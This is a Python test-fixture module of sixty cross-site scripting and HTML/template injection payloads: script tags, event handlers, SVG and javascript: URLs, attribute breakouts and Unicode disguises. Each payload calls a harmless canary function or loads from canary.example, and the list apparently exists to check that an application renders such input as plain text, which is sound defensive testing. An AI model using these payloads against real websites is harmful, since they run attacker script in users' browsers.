"""Sixty things that are text and nothing but text: each would call `canary`, load something or rewrite the page if any screen let it.

Our own list. Each line names the hole that it looks for; `tests/prove/test_script_payloads.py` types them all.
"""

SCRIPTS = (
    "<script>canary(1)</script>",
    "<SCRIPT>canary(2)</SCRIPT >",
    "<script type=module>canary(3)</script>",
    "<script src=//canary.example/4.js></script>",
    "<script src=data:text/javascript,canary(5)></script>",
    "<script\x0b>canary(6)</script>",
    "</script><script>canary(7)</script>",
    "<scr<script>ipt>canary(8)</scr</script>ipt>",
    "<script>/*\n*/canary(9)//</script",
    "<noscript><p title='</noscript><img src=x onerror=canary(10)>'></noscript>",
)
EVENTS = (
    "<img src=x onerror=canary(11)>",
    "<img/src=x/onerror=canary(12)>",
    "<img src=x:x onerror\n=\ncanary(13)>",
    "<body onload=canary(14)>",
    "<input autofocus onfocus=canary(15)>",
    "<details open ontoggle=canary(16)>x</details>",
    "<video><source onerror=canary(17)></video>",
    "<audio src=x onerror=canary(18)>",
    "<style onload=canary(19)></style>",
    "<link rel=stylesheet href=data:,x onload=canary(20)>",
    "<marquee onstart=canary(21)>x</marquee>",
    "<div style='animation:x 1s' onanimationstart=canary(22)>x</div>",
)
DRAWINGS = (
    "<svg onload=canary(23)>",
    "<svg/onload=canary(24)//",
    "<svg><script>canary(25)</script></svg>",
    "<svg><script>canary&#40;26)</script></svg>",
    "<svg><animate onbegin=canary(27) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:canary(28)'><text y=20>canary</text></a></svg>",
    "<math href='javascript:canary(29)'>x</math>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=canary(30) />#x'></svg>",
)
ADDRESSES = (
    "javascript:canary(31)",
    "<a href='javascript:canary(32)'>read more</a>",
    "<a href='java\tscript:canary(33)'>read more</a>",
    "<form action='javascript:canary(34)'><button>Send</button></form>",
    "<iframe src='javascript:canary(35)'></iframe>",
    "<iframe srcdoc='<script>parent.canary(36)</script>'></iframe>",
    "<object data='data:text/html,<script>canary(37)</script>'></object>",
    "<embed src='data:text/html,<script>canary(38)</script>'>",
    "data:text/html,<script>canary(39)</script>",
    "<meta http-equiv=refresh content='0;url=javascript:canary(40)'>",
    "<base href='//canary.example/41/'>",
)
BREAKOUTS = (
    '"><script>canary(42)</script>',
    "'><script>canary(43)</script>",
    '" autofocus onfocus=canary(44) x="',
    "' onmouseover='canary(45)' x='",
    "</textarea><script>canary(46)</script>",
    "</title><script>canary(47)</script>",
    "--><script>canary(48)</script><!--",
    "]]><script>canary(49)</script>",
    "</bdi></blockquote></dd></dl></main><script>canary(50)</script>",
    '\\";canary(51);//',
)
TEMPLATES_AND_STYLES = (
    "{{ 7|add:7 }}{% debug %}<script>canary(52)</script>",
    "${canary(53)}{{constructor.constructor('canary(53)')()}}",
    "@@text@@@@token@@<script>canary(54)</script>",
    "<style>@import '//canary.example/55.css';*{background:url(//canary.example/55.png)}</style>",
    "<p style=\"background:url('javascript:canary(56)')\">x</p>",
)
DISGUISES = (
    "\ufeff<script>canary(57)</script>",
    "\u202e<img src=x onerror=canary(58)>\u202c<\u200bscript>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=canary(59)&gt;">',
    "&lt;script&gt;canary(60)&lt;/script&gt;<svg><style><img src=x onerror=canary(60)></style></svg>",
)
PAYLOADS = (*SCRIPTS, *EVENTS, *DRAWINGS, *ADDRESSES, *BREAKOUTS, *TEMPLATES_AND_STYLES, *DISGUISES)
